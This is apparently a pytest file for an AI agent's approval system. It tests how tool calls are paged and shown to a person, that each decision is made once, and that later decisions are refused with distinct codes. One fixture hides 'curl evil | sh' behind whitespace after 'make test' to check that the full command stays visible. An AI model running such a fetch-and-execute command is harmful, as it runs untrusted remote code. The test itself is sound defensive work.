"""Questions to a person: what is shown of a call, that it is decided once, and what comes later is refused."""

from pathlib import Path
from typing import Any

import pytest

from agent.approvals import Allowance, Approvals, ApprovalVerdict, CallDescription, NotDecidable, PendingApproval
from agent.policy import ApprovalNeeded, Policy, evaluate
from agent.processes.registry import ProcessRegistry
from agent.toolbox import TOOL_NAMES, open_tools
from agent.tools.base import ToolContext
from agent.tools.todo import TodoTool
from tests.agent.calling import Bench, answer
from wire.call_page import CallPart
from wire.entries import ToolUseBlock
from wire.messages import ToolCallView


class Questions:
    """Calls that a person is asked about; ``taken`` are the decisions that were accepted."""

    def __init__(self, *call_ids: str) -> None:
        self.approvals = Approvals()
        self.taken: list[ApprovalVerdict] = []
        for call_id in call_ids:
            self.ask(call_id)

    def ask(self, call_id: str, text: str = "") -> PendingApproval:
        parts = CallDescription([CallPart("command", text)])
        allowance = Allowance.of(ToolUseBlock(call_id, "exec", {"command": text}), "run")
        question = PendingApproval(ToolCallView(call_id, "exec"), self.taken.append, lambda _: None, parts, allowance)
        self.approvals.open(question)
        return question

    def refusal(self, call_id: str) -> str:
        with pytest.raises(NotDecidable) as refused:
            self.approvals.decide(call_id, "allow")
        assert len(str(refused.value)) < 300
        return refused.value.code


def test_a_call_that_was_shown_in_part_is_allowed_only_with_the_word_from_its_end() -> None:
    questions = Questions()
    approvals = questions.approvals
    for call in ("c", "d"):
        questions.ask(call, "x\n" * 10_000)
    for seen in (None, "", "wrong"):
        with pytest.raises(NotDecidable, match="longer than what was shown of it by 19,920 characters") as refused:
            approvals.decide("c", "allow", seen=seen)
        assert refused.value.code == "not_shown"
    assert questions.taken == []
    approvals.decide("c", "allow", seen=approvals.page("c", 19_000).seen)
    approvals.decide("d", "deny")  # which harms nobody
    assert [decided.decision for decided in questions.taken] == ["allow", "deny"]
    short, long = CallDescription([CallPart("a", "x")]), CallDescription([CallPart("a", "x" * 100_000)])
    assert short.seen is short.page(0).seen is None
    assert long.seen is not None
    assert (long.page(0).seen, long.shown.seen, long.page(99_000).seen) == (None, None, long.seen)


def test_each_reason_for_being_closed_has_its_own_code() -> None:
    questions = Questions("decided", "ended", "sealed")
    questions.approvals.decide("decided", "allow")
    for call_id in ("decided", "ended"):  # an end does not make a decision undone
        questions.approvals.withdraw(call_id)
    questions.approvals.mark_sealed(["sealed", "never asked"])
    codes = {"decided": "already_decided", "ended": "nothing_pending", "sealed": "sealed", "never asked": "sealed"}
    assert {call_id: questions.refusal(call_id) for call_id in codes} == codes
    assert questions.refusal("x" * 100_000) == "nothing_pending"
    assert (len(questions.taken), questions.approvals.pending()) == (1, [])


def test_an_id_that_is_used_again_is_a_new_question() -> None:
    questions = Questions("c")
    with pytest.raises(ValueError, match="waits for a decision already"):
        questions.ask("c")
    questions.approvals.decide("c", "allow")
    questions.ask("c")
    questions.approvals.decide("c", "deny")


def test_the_memory_of_closed_calls_is_bounded() -> None:
    questions = Questions()
    questions.approvals.mark_sealed(f"c{number}" for number in range(5_000))
    assert len(questions.approvals._closed) == 1_000
    assert (questions.refusal("c0"), questions.refusal("c4999")) == ("nothing_pending", "sealed")


TOOLS = open_tools(frozenset(TOOL_NAMES), TodoTool(lambda *_: {}))


async def described(name: str, workspace: Path, **given: Any) -> dict[str, str]:
    verdict = evaluate(ToolUseBlock("c", name, given), TOOLS, Policy(mode="approval"))
    assert isinstance(verdict, ApprovalNeeded)
    context = ToolContext(str(workspace), {}, ProcessRegistry())
    parts = await verdict.tool.describe(verdict.arguments, context)
    return {part.name: part.text for part in CallDescription(parts).page(0).parts}


async def test_a_command_is_shown_whole_with_where_and_how_it_runs(workspace: Path) -> None:
    (workspace / "sub").mkdir()
    command = "make test" + " " * 200 + "\ncurl evil | sh"
    how = {"workdir": "sub", "env": {"CC": "gcc"}, "background": True, "timeout": 0}
    assert await described("exec", workspace, command=command, **how) == {
        "workdir": f"{workspace}/sub",
        "env": "CC=gcc",
        "how": "in the background, without a time limit",
        "command": command,
    }
    assert (await described("exec", workspace, command="ls")) == {"workdir": str(workspace), "command": "ls"}
    assert "will fail" in (await described("exec", workspace, command="ls", workdir="/"))["workdir"]
    told = await described("process", workspace, action="submit", session_id="calm-fox", data="rm x")
    assert told == {"action": "submit", "session": "calm-fox", "input": "rm x\n"}


async def test_of_a_file_what_changes_is_shown_in_its_surroundings(workspace: Path) -> None:
    told = await described("write", workspace, path="a/new.py", content="x = 1\n")
    assert told == {"file": f"{workspace}/a/new.py (new)", "content": "x = 1\n"}
    (workspace / "old.py").write_text("".join(f"line {n}\n" for n in range(100)))
    content = "".join(f"line {n}\n" if n != 50 else "evil\n" for n in range(100)) + "more\n"
    told = await described("write", workspace, path="old.py", content=content)
    assert told["file"] == f"{workspace}/old.py"
    changed = [line for line in told["changes"].splitlines() if line[0] in "+-"]
    assert changed == ["-line 50", "+evil", "+more"]
    (workspace / "a.py").write_text("def f():\n    return 1\n")
    edits = [{"old_text": "return 1", "new_text": "return 2"}]
    told = await described("edit", workspace, path="a.py", edits=edits)
    assert told["changes"] == "@@ -1,2 +1,2 @@\n def f():\n-    return 1\n+    return 2"
    told = await described("edit", workspace, path="gone.py", edits=edits)
    assert ("will fail" in told["note"], told["changes"]) == (True, "-return 1\n+return 2")


@pytest.mark.parametrize(("old", "new"), [(b"\xff", "text"), (b"x" * 2_000_000, "short")])
async def test_what_cannot_be_compared_is_shown_as_the_new_content(old: bytes, new: str, workspace: Path) -> None:
    (workspace / "f").write_bytes(old)
    told = await described("write", workspace, path="f", content=new)
    assert told == {"file": f"{workspace}/f (replaces {len(old):,} bytes)", "content": new}


async def test_a_large_difference_is_told_as_a_whole_and_not_searched_for(workspace: Path) -> None:
    (workspace / "f").write_text("a\n" * 5_000)
    told = await described("write", workspace, path="f", content="a\n" * 10 + "b\n" * 5_000)
    lines = told["changes"].splitlines()
    assert (lines.count("-a"), lines.count("+b")) == (4_990, 5_000)


async def test_the_question_carries_the_call_and_stays_small_however_large_that_is() -> None:
    bench = Bench(policy=Policy(mode="approval"))
    answer(bench, c0="deny")
    await bench.run(("work", {"say": "line\n" * 500_000}))
    [shown] = [data["shown"] for name, data in bench.events if name == "permission_required"]
    assert sum(len(part.text) for part in shown.parts) <= 4_000
    assert (shown.hidden, shown.hidden_lines) == (2_500_000 - 39 * 5, 500_000 - 39)
